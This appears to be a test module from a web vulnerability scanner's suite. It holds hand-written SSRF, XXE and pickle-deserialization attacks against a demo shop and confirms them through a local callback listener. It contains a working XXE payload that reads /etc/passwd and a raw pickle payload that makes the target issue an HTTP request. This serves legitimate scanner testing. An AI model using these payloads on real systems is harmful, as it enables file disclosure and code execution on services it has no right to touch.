"""Hand-written attacks for the server-side request checks (ssrf, xxe, deserialization), with a
tiny HTTP listener of their own on 127.0.0.1: an attack worked when the shop calls it back with the
attack's unique path, or shows a file's content."""

from __future__ import annotations

import asyncio
import base64
import re
import secrets
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager

from lunge.http import Request, parse
from tests.demo.wire import send

Attack = Callable[[Request, str, tuple[Request, ...]], Awaitable[str | None]]
PASSWD = re.compile(r"root:[^:\n]*:0:0:")
WAIT = 1.5  # seconds a callback may take (the blind webhook calls half a second after answering)


@asynccontextmanager
async def listener() -> AsyncIterator[tuple[int, list[str]]]:
    hits: list[str] = []

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        line = await reader.readline()
        hits.append(line.decode("latin-1"))
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\npong")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    try:
        yield int(server.sockets[0].getsockname()[1]), hits
    finally:
        server.close()


async def _called(hits: list[str], token: str) -> str | None:
    for _ in range(int(WAIT / 0.05)):
        found = next((h for h in hits if token in h), None)
        if found:
            return found.strip()
        await asyncio.sleep(0.05)
    return None


def _replace(request: Request, point: str, value: str) -> Request:
    return parse(request).replace(point, value)


async def ssrf(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    async with listener() as (port, hits):
        token = secrets.token_hex(8)
        await send(_replace(request, point, f"http://127.0.0.1:{port}/{token}"))
        return await _called(hits, token)


async def xxe(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    """The body replaced by a document whose entity reads /etc/passwd (sent as XML): at the DOCTYPE
    place of an XML body, or at the first field of a JSON body (the Content-Type switched)."""
    first_json = next((p.name for p in parse(request) if p.name.startswith("POST_JSON_DOC_")
                       and p.name.endswith("_value")), None)
    if point != "POST_XML_XML_DTD_value" and point != first_json:
        return None
    root, child = ("order", "item") if point.startswith("POST_XML") else ("root", "sku")
    extra = "<quantity>2</quantity>" if root == "order" else ""
    document = (f'<!DOCTYPE {root} [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
                f"<{root}><{child}>&e;</{child}>{extra}</{root}>")
    headers = request.headers.set("Content-Type", "application/xml")
    sent = await send(request.with_headers(headers).with_body(document.encode()))
    match = PASSWD.search(sent.text)
    return match.group(0) if match else None


async def deserialization(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    async with listener() as (port, hits):
        token = secrets.token_hex(8)
        data = b"curllib.request\nurlopen\n(Vhttp://127.0.0.1:" + str(port).encode() + b"/" + token.encode() + b"\ntR."
        await send(_replace(request, point, base64.b64encode(data).decode()))
        return await _called(hits, token)


BY_CHECK: dict[str, tuple[Attack, ...]] = {"ssrf": (ssrf,), "xxe": (xxe,), "deserialization": (deserialization,)}
# Attacks that spend nearly all their time waiting for a callback that mostly never comes (WAIT):
# a sweep may run many more of them at once than attacks that keep the shop busy.
WAITING: tuple[Attack, ...] = (ssrf, deserialization)
